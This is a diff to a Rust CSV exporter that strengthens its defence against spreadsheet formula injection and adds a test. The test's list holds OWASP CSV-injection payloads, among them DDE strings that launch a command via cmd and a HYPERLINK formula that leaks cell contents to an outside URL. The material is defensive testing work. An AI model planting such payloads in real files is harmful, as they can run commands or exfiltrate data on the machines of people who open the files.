@@ -10,10 +10,14 @@
 //!   list separator (what Excel splits a double-clicked CSV on) is `;`;
 //! - **decimal comma** (`81,8`), so numbers stay numbers, and dates as `dd/mm/yyyy`, the
 //!   locale's short date;
-//! - quoting (RFC 4180: a field holding `;`, `"` or a line break is quoted, `"` doubled)
-//!   and CRLF line ends;
-//! - text from imported files is untrusted: a text cell starting with `=`, `+`, `-` or `@`
-//!   would be run as a formula, so it is written with a leading `'`.
+//! - quoting (RFC 4180: a field holding `;`, `,`, a tab, `"` or a line break is quoted,
+//!   `"` doubled) and CRLF line ends — `,` too, so an Excel whose list separator is `,`
+//!   (an English Windows) does not cut a cell in two;
+//! - text from imported files is untrusted: text that would be run as a formula (`=`, `+`,
+//!   `-`, `@`, also their full-width forms) is written with a `'` before it — at the start
+//!   of the cell, after leading spaces, and wherever an Excel splitting on `,`, `;` or a
+//!   tab would start a new cell; a cell starting with a tab or a carriage return gets a
+//!   leading `'` too (the OWASP CSV-injection rules).
 
 use chrono::NaiveDate;
 
@@ -108,15 +112,40 @@ fn decimal_comma(scaled: i64, places: u32) -> String {
     format!("{sign}{whole},{}", digits.trim_end_matches('0'))
 }
 
+/// Characters that make a spreadsheet read a cell as a formula.
+fn starts_formula(c: char) -> bool {
+    matches!(c, '=' | '+' | '-' | '@' | '\u{FF1D}' | '\u{FF0B}' | '\u{FF0D}' | '\u{FF20}')
+}
+
+/// Characters after which some spreadsheet (whatever its list separator) starts a new cell.
+fn splits_cells(c: char) -> bool {
+    matches!(c, ';' | ',' | '\t' | '\r' | '\n')
+}
+
+/// The text with a `'` before every formula character that could begin a cell: at the
+/// start, after leading spaces, and after any character some spreadsheet splits cells on.
 fn defused(text: &str) -> String {
-    match text.chars().next() {
-        Some('=' | '+' | '-' | '@') => format!("'{text}"),
-        _ => text.to_owned(),
+    let mut out = String::with_capacity(text.len() + 1);
+    if text.starts_with(['\t', '\r']) {
+        out.push('\'');
     }
+    let mut at_cell_start = true;
+    for c in text.chars() {
+        if at_cell_start && starts_formula(c) {
+            out.push('\'');
+        }
+        out.push(c);
+        if splits_cells(c) {
+            at_cell_start = true;
+        } else if !c.is_whitespace() {
+            at_cell_start = false;
+        }
+    }
+    out
 }
 
 fn quoted(text: &str) -> String {
-    if text.contains([SEPARATOR, '"', '\n', '\r']) {
+    if text.contains([SEPARATOR, ',', '\t', '"', '\n', '\r']) {
         format!("\"{}\"", text.replace('"', "\"\""))
     } else {
         text.to_owned()
@@ -175,6 +204,112 @@ mod tests {
             to_csv(&sheet),
             "\u{feff}Chi bộ;Điểm;Xếp loại\r\nThôn 1;90;\r\nThôn 2;;Khá\r\n"
         );
+    }
+
+    /// The OWASP CSV-injection payloads (and their variants with leading spaces, tabs,
+    /// carriage returns, separators inside the text).
+    const INJECTIONS: &[&str] = &[
+        "=cmd|' /C calc'!A0",
+        "=HYPERLINK(\"http://example.com?leak=\"&A1&A2, \"Error: please click for further information\")",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "+1+1",
+        "-2+3",
+        "=1+1",
+        "DDE (\"cmd\";\"/C calc\";\"!A0\")A0",
+        "\t=1+1",
+        "\r=1+1",
+        "   =1+1",
+        " \t @SUM(1)",
+        "Nguyễn Văn An,=1+1",
+        "Nguyễn Văn An, =cmd|' /C calc'!A0",
+        "ghi chú;=1+1",
+        "hai dòng\n=1+1",
+        "\u{FF1D}1+1",
+        "a\t+1",
+    ];
+
+    /// Splits a CSV line into cells as a spreadsheet with `separator` as its list
+    /// separator does (RFC 4180 quotes: only a quote that opens a cell starts a quoted cell).
+    fn cells_as_split_by(line: &str, separator: char) -> Vec<String> {
+        let mut cells = vec![String::new()];
+        let mut chars = line.chars().peekable();
+        let mut quoted = false;
+        let mut cell_start = true;
+        while let Some(c) = chars.next() {
+            let cell = cells.last_mut().unwrap();
+            if quoted {
+                if c == '"' {
+                    if chars.peek() == Some(&'"') {
+                        chars.next();
+                        cell.push('"');
+                    } else {
+                        quoted = false;
+                    }
+                } else {
+                    cell.push(c);
+                }
+            } else if c == '"' && cell_start {
+                quoted = true;
+                cell_start = false;
+            } else if c == separator {
+                cells.push(String::new());
+                cell_start = true;
+            } else {
+                cell.push(c);
+                cell_start = false;
+            }
+        }
+        cells
+    }
+
+    fn runs_as_formula(cell: &str) -> bool {
+        cell.trim_start().starts_with(starts_formula) || cell.starts_with(['\t', '\r'])
+    }
+
+    #[test]
+    fn owasp_injections_never_start_a_cell_whatever_the_list_separator() {
+        for payload in INJECTIONS {
+            let sheet = Sheet {
+                header: vec!["Tên".into(), "Ghi chú".into()],
+                rows: vec![vec![Cell::Text("Thôn 1".into()), Cell::Text((*payload).into())], vec![Cell::Text((*payload).into())]],
+            };
+            let csv = to_csv(&sheet);
+            let body = csv.trim_start_matches('\u{feff}');
+            // Vietnamese Excel (`;`), an English one (`,`), and a paste split on tabs.
+            for separator in [';', ',', '\t'] {
+                // Records are split on line ends outside quotes by the same rules: here a
+                // CRLF only ends a record (a line break inside a cell is quoted).
+                for record in split_records(body) {
+                    for cell in cells_as_split_by(&record, separator) {
+                        assert!(!runs_as_formula(&cell), "{payload:?} split on {separator:?}: cell {cell:?} of {record:?}");
+                    }
+                }
+            }
+            // On `;`, the way this file is meant to be read, the text comes back whole (with its `'`s).
+            let second = split_records(body).into_iter().nth(1).unwrap();
+            let cells = cells_as_split_by(&second, ';');
+            assert_eq!(cells[1].replace('\'', ""), payload.replace('\'', ""), "{payload:?}");
+        }
+    }
+
+    /// The records of a CSV text: split on CRLF outside quotes.
+    fn split_records(text: &str) -> Vec<String> {
+        let mut records = vec![String::new()];
+        let mut quoted = false;
+        let mut chars = text.chars().peekable();
+        while let Some(c) = chars.next() {
+            if c == '"' {
+                quoted = !quoted;
+            }
+            if !quoted && c == '\r' && chars.peek() == Some(&'\n') {
+                chars.next();
+                records.push(String::new());
+                continue;
+            }
+            records.last_mut().unwrap().push(c);
+        }
+        records.retain(|record| !record.is_empty());
+        records
     }
 
     #[test]
